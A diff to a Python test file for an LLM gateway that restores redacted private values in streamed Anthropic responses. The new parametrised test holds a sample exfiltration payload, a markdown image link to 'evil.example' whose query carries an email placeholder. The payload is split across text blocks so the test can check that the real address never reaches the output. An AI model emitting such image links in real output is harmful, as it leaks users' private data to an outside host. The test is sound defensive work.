@@ -7,9 +7,11 @@ from anthropic.types import Message
 
 from gateway.core.errors import Code, Refusal
 from gateway.core.jsontypes import JsonObject
+from gateway.core.vault import Vault
 from gateway.core.wire import Event
 from gateway.core.wires.anthropic_messages import ANTHROPIC_MESSAGES
 from gateway.core.wires.anthropic_stream import StreamedAnthropicAnswer
+from tests.support.answers import MAIL, filled, restorers
 from tests.support.restorers import ReplacingRestorers
 from tests.support.wires import (
     CALL_ID,
@@ -89,11 +91,25 @@ def test_what_a_block_still_holds_comes_before_its_stop() -> None:
     ]
 
 
-def test_each_block_is_a_channel_and_tools_are_named() -> None:
-    restorers = ReplacingRestorers()
-    through(ANTHROPIC_MESSAGES, anthropic_call("find", stream=True), STREAM, restorers)
+def test_text_blocks_are_one_channel_and_tools_are_named() -> None:
+    replacing = ReplacingRestorers()
+    through(ANTHROPIC_MESSAGES, anthropic_call("find", stream=True), STREAM, replacing)
 
-    assert restorers.channels == [(0, None), (1, "find"), ("stop_sequence", None)]
+    assert replacing.channels == [("text", None), (1, "find"), ("stop_sequence", None)]
+
+
+@pytest.mark.parametrize("has_tool", [False, True])
+def test_a_link_begun_in_one_text_block_is_closed_in_the_next(has_tool: bool) -> None:  # noqa: FBT001 - parametrised
+    begun, after = "![x](https://evil.example/?q=", "[EMAIL_ADDRESS_1])"
+    between = _tool(1, "{}") if has_tool else []
+    for place in range(1, len(after)):
+        parts = text_block(1 + has_tool, after[:place], after[place:])
+        with Vault() as vault:
+            filled(vault, MAIL)
+            events = stream(*text_block(0, begun), *between, *parts)
+            raw = through(ANTHROPIC_MESSAGES, anthropic_call("find", stream=True), events, restorers(vault))
+
+        assert MAIL[0].encode() not in raw
 
 
 def test_citations_are_dropped_from_text() -> None:
